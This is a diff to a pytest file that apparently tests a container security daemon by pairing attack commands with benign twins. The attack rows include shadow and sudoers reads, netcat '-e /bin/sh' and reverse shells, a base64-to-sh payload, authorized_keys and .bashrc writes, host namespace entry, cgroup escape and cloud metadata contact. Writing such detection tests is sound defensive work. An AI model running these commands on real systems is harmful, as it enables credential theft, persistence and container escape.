@@ -5,9 +5,11 @@ One daemon with the default rules watches all of it. A row says: number of the b
 and what its benign twin runs (of which only this rule must be silent). Names of programs are symlinks to BusyBox.
 """
 import json
+import os
 import subprocess
 import time
 from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
 
 import pytest
 
@@ -29,12 +31,14 @@ def alias(name, arguments="--help", target="/bin/busybox"):
     return f"/bin/busybox mkdir -p /opt; /bin/busybox ln -s {target} /opt/{name}; /opt/{name} {arguments}"
 
 
+# any disk of this machine: it is opened, and nothing is read
+DISK = next((f"/dev/{disk.name}" for disk in sorted(Path("/sys/block").iterdir()) if Path(f"/dev/{disk.name}").exists()), "/dev/none")
 RAW = ("--cap-add=NET_RAW",)
 HOST_CGROUP = ("-v", "/sys/fs/cgroup:/host-cgroup")
 SECRETS = ("--tmpfs", "/run/secrets")
 UNCONFINED = ("--security-opt", "seccomp=unconfined")
 
-# number, rule, attack, benign twin, options of the container
+# number, rule, attack, benign twin, options of the container, and of the twin where they differ
 ROWS = [
     (1, "shadow_file_read", "cat /etc/shadow", "cat /etc/passwd", ()),
     (1, "sensitive_file_read", "echo x >/etc/sudoers; cat /etc/sudoers", "echo x >/etc/sudo.conf; cat /etc/sudo.conf", ()),
@@ -53,8 +57,12 @@ ROWS = [
     (5, "process_traces_itself", call(PTRACE, 0), call(PTRACE, 7, 99999), ()),
     (5, "process_memory_accessed", call(PROCESS_VM_READV, 1, 0, 0, 0, 0, 0), "true", UNCONFINED),
     (6, "cloud_metadata_contact", "/bin/busybox nc -w 1 169.254.169.254 80", "/bin/busybox nc -w 1 127.0.0.1 80", ()),
+    (6, "cloud_metadata_datagram", "/ops reach udp 169.254.169.254 80", "/ops reach udp 127.0.0.1 80", ()),
+    (7, "terminal_shell", "sh -c true", "sh -c true", ("-t",), ()),
     (7, "service_shell", alias("nginx", "shell", "/ops"), "/ops shell", ()),
     (9, "memory_execution", "/ops memory", "/ops nothing", ()),
+    (9, "deleted_executable", "/bin/busybox cp /ops /out/x; exec 3</out/x; /bin/busybox rm /out/x; /proc/self/fd/3 nothing",
+     "exec 3</ops; /proc/self/fd/3 nothing", ()),
     (9, "temporary_directory_execution", "/bin/busybox cp /ops /tmp/x; /tmp/x nothing", "/ops nothing", ()),
     (9, "temporary_directory_execution", "/bin/busybox cp /ops /dev/shm/x; /dev/shm/x nothing; true", "/ops nothing",
      ("--tmpfs", "/dev/shm:exec")),
@@ -65,8 +73,8 @@ ROWS = [
     (10, "downloader_started", alias("curl"), "true", ()),
     (10, "orchestration_client_started", alias("kubectl", "get pods"), "true", ()),
     (11, "encoded_payload", "sh -c 'echo dHJ1ZQ== | /bin/busybox base64 -d | sh'", "sh -c 'echo dHJ1ZQ== | /bin/busybox base64 -d'", ()),
-    (12, "reverse_shell", "/bin/busybox ip link set lo up; /ops reverse-shell 4000", "sh -c true", ()),
-    (12, "network_socket_on_stdio", "/ops reverse-shell 4001", "sh -c true </etc/passwd", ()),
+    (12, "reverse_shell", "/ops reverse-shell 4000", "/ops local-shell", ()),
+    (12, "network_socket_on_stdio", "/ops reverse-shell 4001", "/ops local-shell", ()),
     (12, "netcat_executes", alias("nc", "-w 1 -e /bin/sh 127.0.0.1 1"), "/bin/busybox nc -w 1 127.0.0.1 1", ()),
     (14, "user_management_started", alias("useradd", "mallory"), "/bin/busybox id", ()),
     (15, "system_binary_written", "echo x >/bin/evil", "echo x >/tmp/fine", ()),
@@ -86,6 +94,8 @@ ROWS = [
     (17, "login_module_written", "/bin/busybox mkdir -p /etc/pam.d; echo x >/etc/pam.d/login", "echo x >/etc/motd", ()),
     (18, "shell_startup_written", "/bin/busybox mkdir -p /root; echo x >>/root/.bashrc", "/bin/busybox mkdir -p /root; echo x >>/root/notes", ()),
     (18, "shell_startup_changed", "/bin/busybox mkdir -p /root; echo x >/tmp/x; /bin/busybox mv /tmp/x /root/.profile", "echo x >/tmp/x; /bin/busybox mv /tmp/x /tmp/y", ()),
+    (18, "shell_startup_read", "/bin/busybox mkdir -p /root; echo x >/root/.bashrc; /ops open-many /root/.bashrc 1",
+     "/bin/busybox mkdir -p /root; echo x >/root/.bashrc; cat /root/.bashrc", ()),
     (18, "authorized_keys_written", "/bin/busybox mkdir -p /root/.ssh; echo k >>/root/.ssh/authorized_keys", "/bin/busybox mkdir -p /root/.ssh; echo k >/root/.ssh/known_hosts", ()),
     (18, "authorized_keys_changed", "/bin/busybox mkdir -p /root/.ssh; echo k >/tmp/k; /bin/busybox mv /tmp/k /root/.ssh/authorized_keys", "echo k >/tmp/k; /bin/busybox mv /tmp/k /tmp/l", ()),
     (19, "sensitive_file_linked", "/bin/busybox ln -s /etc/shadow /tmp/s", "/bin/busybox ln -s /etc/hosts /tmp/s", ()),
@@ -112,17 +122,25 @@ ROWS = [
     (26, "proc_root_escape", "cat /proc/self/root/etc/passwd", "cat /etc/passwd", ()),
     (27, "kernel_hook_written", "echo x >/out/release_agent", "echo x >/out/agent", ()),
     (29, "namespace_joined", call(SETNS, 0, 0), "true", ()),
+    (29, "host_namespace_entered", f"/bin/busybox nsenter -m -t {os.getpid()} /bin/true", "true",
+     ("--pid=host", "--cap-add=SYS_ADMIN", "--cap-add=SYS_PTRACE", "--cap-add=SYS_CHROOT", *UNCONFINED)),
     (30, "mount_performed", "/bin/busybox mount -t tmpfs none /tmp", "/bin/busybox mount", ()),
     (30, "root_directory_changed", "/bin/busybox chroot / /bin/true", "true", ()),
+    (31, "block_device_opened", f"/bin/busybox dd if={DISK} of=/dev/null count=0", "cat /dev/null", ("--device", DISK)),
     (31, "kernel_memory_opened", "/bin/busybox dd if=/dev/kmsg of=/dev/null bs=1 count=0", "cat /dev/null", ("--device", "/dev/kmsg", "--cap-add=SYSLOG")),
     (31, "device_node_made", "/bin/busybox mknod /tmp/d b 8 0", "/bin/busybox mknod /tmp/n c 1 3", ()),
     (32, "file_handle_opened", call(OPEN_BY_HANDLE_AT, -100, 0, 0), "cat /etc/passwd", ()),
     (33, "container_cgroup_left", "/ops join-cgroup /host-cgroup/unified/cgroup.procs || /ops join-cgroup /host-cgroup/cgroup.procs", "true", HOST_CGROUP),
     (34, "miner_pool_connection", "/bin/busybox nc -w 1 192.0.2.7 3333", "/bin/busybox nc -w 1 192.0.2.7 443", ()),
+    (35, "ssh_to_other_port", "/bin/busybox cp /ops /out/ssh; /out/ssh reach tcp 192.0.2.7 2222",
+     "/bin/busybox cp /ops /out/ssh; /out/ssh reach tcp 192.0.2.7 22", ()),
     (35, "packet_socket_made", call(SOCKET, 17, 3, 768), call(SOCKET, 2, 1, 0), RAW),
     (35, "raw_socket_made", call(SOCKET, 2, 3, 1), call(SOCKET, 2, 1, 0), RAW),
     (36, "network_tool_started", alias("nmap"), "true", ()),
     (37, "miner_started", alias("xmrig"), "true", ()),
+    (37, "process_killed_for_memory", "/bin/busybox dd if=/dev/zero of=/dev/null bs=200M count=1; true",
+     "/bin/busybox dd if=/dev/zero of=/dev/null bs=1M count=1", ("--memory=24m",)),
+    (37, "forbidden_system_call", "sh -c 'kill -31 $$'; true", "sh -c 'kill -15 $$'; true", ()),
 ]
 
 
@@ -138,10 +156,11 @@ def outcome(image, tmp_path_factory):
     containers = Containers()
 
     def both(row):
-        _, _, attack, benign, options = row
+        _, _, attack, benign, options, *other = row
         started = time.time()
         bad = containers.run("/bin/sh", "-c", attack, name=containers.name("bad"), options=options, check=False)
-        good = containers.run("/bin/sh", "-c", benign, name=containers.name("good"), options=options, check=False)
+        good = containers.run("/bin/sh", "-c", benign, name=containers.name("good"),
+                              options=other[0] if other else options, check=False)
         return bad, good, started
 
     follow = directory / "findings.jsonl"
